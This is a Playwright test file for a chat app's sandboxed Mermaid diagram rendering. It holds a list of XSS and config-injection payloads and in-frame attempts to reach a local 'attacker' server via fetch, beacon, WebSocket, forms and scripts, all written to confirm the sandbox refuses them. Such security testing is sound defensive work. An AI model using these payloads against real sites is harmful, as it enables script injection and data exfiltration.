// Diagrams in messages: drawn apart from the page, on text that nobody trusts.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import AxeBuilder from '@axe-core/playwright';
import type { Frame, Page } from '@playwright/test';
import type { Thread } from '../../src/lib/api/chat-types';
import { withLab } from './lab';
import { expect, expectNoSidewaysScroll, test, themes } from './studio';

test.use({ name: 'diagrams' });
test.describe.configure({ mode: 'serial' });

withLab();

const fenced = (text: string): string => `\`\`\`mermaid\n${text}\n\`\`\``;
const flowchart = 'flowchart LR\n  accTitle: The way to the lamp\n  accDescr: Up, unless it is lit\n  A[Start] --> B{Is it lit?}\n  B -- yes --> C[Sail on]\n  B -- no --> D[(Oil)]\n  subgraph Tower\n  D --> E((Lamp))\n  end';
const sequence = 'sequenceDiagram\n  autonumber\n  participant K as Keeper\n  participant S as Ship\n  S->>K: Where is the rock?\n  alt the lamp is lit\n  K-->>S: Behind me\n  else it is not\n  K--xS: Nothing\n  end\n  Note over K,S: They know each other';

const messages = (page: Page) => page.getByRole('region', { name: 'Messages' });
const blocks = (page: Page) => messages(page).getByRole('figure', { name: 'mermaid' });
const pictures = (page: Page) => messages(page).locator('figure img');
// The frame that draws, which is there once it has something to draw.
const drawingFrame = (page: Page): Frame | undefined => page.frames().find((frame) => frame.url().includes('/_app/diagram-'));

async function threadWith(page: Page, ...answers: readonly string[]): Promise<string> {
  const { id } = (await (await page.request.post('/api/threads', { data: { model: 'lab/double' } })).json()) as Thread;
  const sent = answers.flatMap((answer, at) => [
    { number: 2 * at + 1, parent: 2 * at, role: 'user', parts: [{ type: 'text', text: `Question ${at + 1}` }] },
    { number: 2 * at + 2, parent: 2 * at + 1, role: 'assistant', parts: [{ type: 'text', text: answer }] },
  ]);
  expect((await page.request.put(`/api/threads/${id}/messages`, { data: { messages: sent } })).ok()).toBe(true);
  return id;
}
// What is in its place until what draws it is loaded goes away under the hand that scrolls to it.
const see = (page: Page, at: number): Promise<void> => expect(() => blocks(page).nth(at).scrollIntoViewIfNeeded({ timeout: 1000 })).toPass();
// Each is drawn once it is on screen. Its size comes from its file only once that could be read.
async function drawn(page: Page, at: number): Promise<void> {
  const block = blocks(page).nth(at);
  await see(page, at);
  const size = await block.getByRole('img').evaluate(async (image: HTMLImageElement) => (await image.decode(), [image.naturalWidth, image.naturalHeight]));
  expect(Math.min(...size)).toBeGreaterThan(50);
}
// The words in it, without those of its styles.
async function wordsIn(page: Page, at: number): Promise<string> {
  const address = (await blocks(page).nth(at).getByRole('img').getAttribute('src'))!;
  return decodeURIComponent(address).replace(/<style[\s\S]*?<\/style>/g, '').replace(/<[^>]*>/g, '');
}

// The frame's policy is what refuses, and says so.
const onlyRefusals = (console: string[]): void => {
  expect(console.filter((text) => !/violates the (?:following|document's) Content Security Policy|sandbox/.test(text))).toEqual([]);
  console.length = 0;
};

test('are drawn, say what they are, and turn into their source and back', async ({ page }) => {
  await page.goto(`/c/${await threadWith(page, `Look:\n\n${fenced(flowchart)}\n\nand\n\n${fenced(sequence)}`)}`);
  for (const at of [1, 0]) await drawn(page, at);
  await expect(pictures(page).first()).toHaveAttribute('alt', 'The way to the lamp. Up, unless it is lit');
  expect(await wordsIn(page, 0)).toContain('Is it lit?');
  expect(await wordsIn(page, 1)).toContain('Where is the rock?');
  expect(page.frames().filter((frame) => frame.url().includes('/_app/diagram-')), 'one draws them all').toHaveLength(1);
  const first = blocks(page).first();
  const source = first.getByRole('button', { name: 'Source', exact: true });
  await source.focus();
  await page.keyboard.press('Enter');
  await expect(first.locator('pre')).toHaveText(flowchart);
  await expect(source).toHaveAttribute('aria-pressed', 'true');
  await expect(source).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(pictures(page)).toHaveCount(2);
  await expect(first.locator('pre')).toHaveCount(0);
});

for (const colorScheme of themes) {
  test(`keep the rules of access, ${colorScheme}`, async ({ browser, page: first, studio }) => {
    const id = await threadWith(first, `${fenced(flowchart)}\n\n${fenced(sequence)}`, fenced('flowchart LR\n  A --> --> B'));
    for (const device of [{ viewport: { width: 1280, height: 1000 } }, { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true }]) {
      const context = await browser.newContext({ baseURL: studio.url, colorScheme, reducedMotion: 'reduce', ...device });
      const page = await context.newPage();
      await page.goto(`/c/${id}`);
      await expect(messages(page).getByText('This diagram cannot be drawn')).toBeVisible();
      for (const at of [1, 0]) await drawn(page, at);
      await expectNoSidewaysScroll(page);
      await page.screenshot({ path: test.info().outputPath(`diagrams-${device.viewport.width}.png`) });
      await pictures(page).nth(1).scrollIntoViewIfNeeded();
      await page.screenshot({ path: test.info().outputPath(`diagrams-2-${device.viewport.width}.png`) });
      await see(page, 2);
      await page.screenshot({ path: test.info().outputPath(`diagrams-3-${device.viewport.width}.png`) });
      const { violations } = await new AxeBuilder({ page }).withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa']).analyze();
      expect(violations.map(({ id: rule, nodes }) => `${rule}: ${nodes.map((node) => node.target.join(' ')).join(' | ')}`)).toEqual([]);
      await context.close();
    }
  });
}

test('are drawn once their block is finished, while the answer goes on', async ({ page }) => {
  await page.goto('/c');
  const { id } = (await (await page.request.post('/api/threads', { data: { model: 'lab/double@token-gap=30' } })).json()) as Thread;
  await page.goto(`/c/${id}`);
  const box = page.getByRole('textbox', { name: 'Message', exact: true });
  await box.fill(`[answer Look:\n\n${fenced(sequence.replace(/\[.*?\]/g, ''))}\n\n${'and so on '.repeat(200)}]`);
  await box.press('Enter');
  await expect(blocks(page), 'what a person wrote stands as it was written').toHaveCount(1);
  await expect(blocks(page)).toHaveAttribute('aria-busy', 'true');
  await expect(pictures(page)).toHaveCount(0);
  await drawn(page, 0);
  await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible();
  await page.getByRole('button', { name: 'Stop' }).click();
  await expect(page.getByRole('button', { name: 'Continue' })).toBeVisible();
  await expect(pictures(page)).toHaveCount(1);
});

test('follow the colours of the page', async ({ page }) => {
  await page.emulateMedia({ colorScheme: 'light' });
  await page.goto(`/c/${await threadWith(page, fenced(flowchart))}`);
  await drawn(page, 0);
  const light = await pictures(page).getAttribute('src');
  await page.emulateMedia({ colorScheme: 'dark' });
  await expect(pictures(page)).not.toHaveAttribute('src', light!);
  await page.emulateMedia({ colorScheme: 'light' });
  await expect(pictures(page)).toHaveAttribute('src', light!);
});

test('are drawn only where they are seen, and move nothing that is read', async ({ page }) => {
  const words = Array.from({ length: 12 }, (_, at) => `Paragraph ${at}. ${'Words upon words. '.repeat(20)}`).join('\n\n');
  const tall = `flowchart TD\n${Array.from({ length: 8 }, (_, at) => `  n${at} --> n${at + 1}`).join('\n')}`;
  await page.goto(`/c/${await threadWith(page, `${words}\n\n${fenced(tall)}\n\nBehind it.\n\n${words}`)}`);
  await expect(blocks(page)).toHaveCount(1);
  const view = messages(page);
  await expect.poll(() => view.evaluate((element) => element.scrollHeight - element.scrollTop - element.clientHeight)).toBeLessThan(3);
  expect(drawingFrame(page), 'nothing is drawn out of sight').toBeUndefined();
  const behind = view.getByText('Behind it.');
  const before = await behind.evaluate((element) => {
    const scrolled = element.closest<HTMLElement>('[role=region]')!;
    scrolled.scrollTop += element.getBoundingClientRect().top - scrolled.getBoundingClientRect().top - 60; // so that only the end of the block shows
    return element.getBoundingClientRect().top;
  });
  await expect(pictures(page)).toHaveCount(1);
  expect((await blocks(page).boundingBox())!.height).toBeGreaterThan(500);
  expect(Math.abs((await behind.boundingBox())!.y - before)).toBeLessThan(2);
  await view.evaluate((element) => (element.scrollTop = element.scrollHeight));
  await page.getByRole('link', { name: 'Library' }).click();
  await expect(view).toHaveCount(0);
  await page.goBack();
  await expect(pictures(page), 'what was drawn is there at once').toHaveCount(1);
});

test('stand as their source while what draws them cannot be loaded, and are drawn once it can', async ({ page }) => {
  await page.goto(`/c/${await threadWith(page, fenced('no such thing'), fenced(flowchart), 'The end. '.repeat(2000))}`);
  await page.context().route('**/_app/diagram-*.html', (route) => route.abort());
  await see(page, 1);
  await expect(blocks(page).nth(1).getByText('what draws it could not be loaded')).toBeVisible();
  await expect(blocks(page).nth(1).locator('pre')).toHaveText(flowchart);
  await page.context().unroute('**/_app/diagram-*.html');
  await messages(page).evaluate((view) => (view.scrollTop = view.scrollHeight));
  await expect(blocks(page).nth(1)).not.toBeInViewport();
  await drawn(page, 1);
  const first = blocks(page).first();
  await see(page, 0);
  await expect(first.getByText('names no kind of diagram'), 'what was not understood once is not asked again').toBeVisible();
  await expect(first.getByRole('button', { name: 'Draw again' })).toHaveCount(0);
});

test('that could not be drawn for a while are drawn at a press, which keeps its place', async ({ page }) => {
  await page.context().route('**/_app/diagram-*.html', (route) => route.abort());
  await page.goto(`/c/${await threadWith(page, fenced(flowchart))}`);
  const again = blocks(page).getByRole('button', { name: 'Draw again' });
  await expect(again).toBeVisible();
  await page.context().unroute('**/_app/diagram-*.html');
  await again.press('Enter');
  await drawn(page, 0);
  await expect(blocks(page).getByRole('button', { name: 'Source', exact: true })).toBeFocused();
});

test('show letters that no picture may have', async ({ page }) => {
  await page.goto(`/c/${await threadWith(page, fenced('flowchart LR\n  A["a \u0001 \u001b b & c # d % 50 ä 😀"] --> B'))}`);
  await drawn(page, 0);
});

test('say in a sentence why they are not drawn, beside their source', async ({ page, console }) => {
  const sources = ['flowchart LR\n  A --> --> B', 'no such thing\n  A --> B', `flowchart LR\n${'  A --> B\n'.repeat(2500)}`, `flowchart LR\n${'  A --> B\n'.repeat(301)}`, 'flowchart LR\n  A@{ img: "/icon.svg" }'];
  await page.goto(`/c/${await threadWith(page, sources.map(fenced).join('\n\n'))}`);
  const why = ['line 2 of its source is not understood', 'its first line names no kind of diagram', 'too large to be drawn', 'too large to be drawn', 'those are not loaded'];
  for (let at = why.length - 1; at >= 0; at -= 1) {
    const block = blocks(page).nth(at);
    await see(page, at);
    await expect(block.getByText(why[at]!)).toBeVisible();
    await expect(block.locator('pre')).toHaveText(sources[at]!.trimEnd());
    await expect(block.getByRole('img')).toHaveCount(0);
  }
  onlyRefusals(console);
});

// What `url` is to be told, by whatever a diagram may say.
const attacks = (url: string): readonly string[] => [
  'flowchart LR\n A-->B\n click A "javascript:alert(1)"',
  'flowchart LR\n A-->B\n click A call alert(1)',
  `flowchart LR\n A-->B\n click A href "${url}" "tip" _top`,
  `flowchart LR\n A["<img src=x onerror=alert(1)>"]-->B["<img src='${url}'><iframe src='${url}'></iframe>"]`,
  `flowchart LR\n A["<script>alert(1)</script><svg onload=alert(1)>"]-->B["<style>@import '${url}'</style><link rel=stylesheet href='${url}'>"]`,
  `flowchart LR\n A["<svg><style><img src=x onerror=alert(1)></style></svg><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=${url} onerror=alert(1)&gt;'>"]-->B`,
  `%%{init: {"securityLevel":"loose","htmlLabels":true,"flowchart":{"htmlLabels":true},"themeCSS":"@import url(${url});","themeVariables":{"primaryColor":"url(${url})"},"fontFamily":"x;} * {background:url(${url})} "}}%%\nflowchart LR\n A["<img src='${url}' onerror=alert(1)>"]-->B\n click A call alert(1)`,
  `---\nconfig:\n  securityLevel: loose\n  secure: []\n  htmlLabels: true\n  themeCSS: "@import url(${url});"\n  dompurifyConfig: {ADD_TAGS: [script, iframe], ADD_ATTR: [onerror]}\n---\nflowchart LR\n A["<img src='${url}' onerror=alert(1)>"]-->B\n click A href "${url}"`,
  '%%{init: {"__proto__": {"securityLevel": "loose"}, "constructor": {"prototype": {"securityLevel": "loose"}}}}%%\nflowchart LR\n A["<img src=x onerror=alert(1)>"]-->B\n click A call alert(1)',
  `flowchart LR\n A-->B\n style A fill:url(${url}),background-image:url('${url}')`,
  `flowchart LR\n A-->B\n classDef x fill:red,background-image:url("${url}")\n class A x`,
  `flowchart LR\n A@{ img: "${url}", label: "x", w: 60, h: 60 }`,
  `flowchart LR\n A@{ icon: "x:${url}", form: "square" }`,
  'flowchart LR\n A["`**x** <img src=x onerror=alert(1)> [l](javascript:alert(1))`"]-->B["$$\\href{javascript:alert(1)}{x}<img src=x onerror=alert(1)>$$"]',
  `sequenceDiagram\n participant A\n link A: Dash @ javascript:alert(1)\n links A: {"x": "${url}"}\n A->>A: <img src=${url} onerror=alert(1)>`,
  `classDiagram\n class A~<img src=x onerror=alert(1)>~\n click A href "javascript:alert(1)"\n link A "${url}"`,
  'stateDiagram-v2\n s1 : <img src=x onerror=alert(1)>\n [*] --> s1\n click s1 href "javascript:alert(1)"',
  'gantt\n dateFormat YYYY-MM-DD\n section <img src=x onerror=alert(1)>\n A :a1, 2014-01-01, 3d\n click a1 call alert(1)',
  'pie\n title <img src=x onerror=alert(1)>\n "<img src=x onerror=alert(1)>" : 3',
  'journey\n title <script>alert(1)</script>\n section <img src=x onerror=alert(1)>\n <img src=x onerror=alert(1)>: 5: Me',
  'mindmap\n root["<img src=x onerror=alert(1)>"]\n  A\n  ::icon(fa fa-book)',
  `C4Context\n Person(a, "A", "B", $sprite="${url}", $link="${url}")`,
  `---\nconfig:\n  kanban:\n    ticketBaseUrl: 'javascript:alert(1)//#TICKET#'\n---\nkanban\n a[Todo]\n  b["<img src=${url}>"]@{ ticket: MC-1 }`,
  `flowchart LR\n accTitle: " onerror=alert(1) x="\n A["${'long '.repeat(3000)}"]`,
];

test.describe('whatever they say', () => {
  let seen: string[] = [];
  let url = '';
  const attacker = createServer((request, response) => {
    seen.push(request.url ?? '');
    response.end();
  });
  test.beforeAll(async () => {
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/told`;
  });
  test.afterAll(() => void attacker.close());
  test.beforeEach(({ page }) => {
    seen = [];
    page.on('dialog', (dialog) => {
      seen.push(`a dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.context().on('page', () => seen.push('another page'));
  });

  test('they run nothing, and nobody is told anything', async ({ page, console }) => {
    test.setTimeout(120_000);
    const all = attacks(url);
    await page.goto(`/c/${await threadWith(page, all.map(fenced).join('\n\n'))}`);
    const address = page.url();
    for (let at = all.length - 1; at >= 0; at -= 1) {
      await see(page, at);
      await expect(blocks(page).nth(at).getByRole('img').or(blocks(page).nth(at).getByText('This diagram')), all[at]).toBeVisible();
      const picture = blocks(page).nth(at).getByRole('img');
      if ((await picture.count()) === 0) continue;
      const svg = decodeURIComponent((await picture.getAttribute('src'))!);
      const marks = svg.match(/<style[\s\S]*?<\/style>|<[^>]*>/g)!.join('');
      expect(marks.match(/<(?:a|image|script|iframe|img|link)[\s>]|\son\w+="|(?:href|src)="(?!#)|url\((?!#)|@import/g), all[at]).toBeNull();
      await picture.click();
    }
    expect(await pictures(page).count()).toBeGreaterThan(all.length / 2);
    expect(page.url()).toBe(address);
    expect(seen).toEqual([]);
    onlyRefusals(console);
  });

  test('the frame that draws them reaches nothing, even where it is made to run their code', async ({ page, console }) => {
    await page.goto(`/c/${await threadWith(page, `${fenced(flowchart)}\n\n${fenced('flowchart LR\n A --> B')}`)}`);
    await drawn(page, 1);
    await page.evaluate(() => {
      document.cookie = 'secret=1';
      localStorage.setItem('secret', '1');
    });
    const frame = drawingFrame(page)!;
    const answers = await frame.evaluate(async (target) => {
      const told: Record<string, string> = {};
      const tries: Record<string, () => unknown> = {
        origin: () => globalThis.origin,
        document: () => parent.document.title,
        address: () => parent.location.href,
        cookie: () => document.cookie,
        storage: () => localStorage.getItem('secret'),
        databases: () => indexedDB.open('x'),
        session: async () => (await fetch('/api/session')).status,
        address2: async () => (await fetch(new URL('/api/session', location.href))).status,
        fetch: async () => (await fetch(target, { mode: 'no-cors' })).type,
        beacon: () => navigator.sendBeacon(target, 'x'),
        socket: () => new Promise((resolve, reject) => Object.assign(new WebSocket(target.replace('http', 'ws')), { onopen: resolve, onerror: reject })),
        image: () => new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: reject, src: target })),
        script: () => new Promise((resolve, reject) => document.head.append(Object.assign(document.createElement('script'), { onload: resolve, onerror: reject, src: target }))),
        module: () => import(target),
        inline: () => (document.body.append(Object.assign(document.createElement('script'), { textContent: 'globalThis.ran = true' })), (globalThis as { ran?: boolean }).ran ?? Promise.reject(new Error('not run'))),
        style: () => new Promise((resolve, reject) => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', onload: resolve, onerror: reject, href: target }))),
        window: () => window.open(target) ?? Promise.reject(new Error('none')),
        top: () => void (top!.location.href = target),
        worker: () => new Promise((resolve, reject) => Object.assign(new Worker(`data:text/javascript,`), { onmessage: resolve, onerror: reject })),
        eval: () => new Function('return 1')(),
      };
      for (const [name, attempt] of Object.entries(tries)) {
        try {
          told[name] = `done: ${String(await attempt())}`;
        } catch (error) {
          told[name] = 'refused';
        }
      }
      const form = Object.assign(document.createElement('form'), { action: target, method: 'post' });
      const inner = Object.assign(document.createElement('iframe'), { src: target });
      document.body.append(form, inner, Object.assign(document.createElement('style'), { textContent: `body { background: url(${target}) } @import url(${target});` }));
      form.submit();
      alert(1);
      return told;
    }, url);
    const { origin, beacon: _told, ...others } = answers;
    expect(origin).toBe('done: null');
    expect(Object.entries(others).filter(([, said]) => said !== 'refused')).toEqual([]);
    // What it may yet do is go elsewhere itself: the page's policy does not let it.
    await frame.evaluate((target) => void (location.href = `${target}?away`), url).catch(() => {});
    await expect.poll(() => console.some((text) => /frame-src|default-src 'self'/.test(text))).toBe(true);
    expect(seen).toEqual([]);
    expect(new URL(page.url()).pathname).toMatch(/^\/c\//);
    onlyRefusals(console);
  });

  test('the document that draws them says what it may, also where it is opened by itself', async ({ page }) => {
    await page.goto(`/c/${await threadWith(page, fenced(flowchart))}`);
    await drawn(page, 0);
    const answer = await page.request.get(drawingFrame(page)!.url());
    expect(answer.headers()['content-security-policy']).toBe("sandbox allow-scripts; default-src 'none'; script-src 'self'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'");
    expect(answer.headers()['cache-control']).toContain('immutable');
  });
});

test('what grows and shrinks while it is drawn leaves the reader at the end', async ({ page }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto(`/c/${await threadWith(page, `Look:\n\n${fenced(flowchart)}\n\nand\n\n${fenced(sequence)}\n\nDone.`)}`);
  await expect(pictures(page).last()).toBeVisible();
  await expect.poll(() => messages(page).evaluate((view) => view.scrollHeight - view.scrollTop - view.clientHeight)).toBeLessThan(2);
  await expect(page.getByRole('button', { name: 'Newest' })).toHaveCount(0);
});
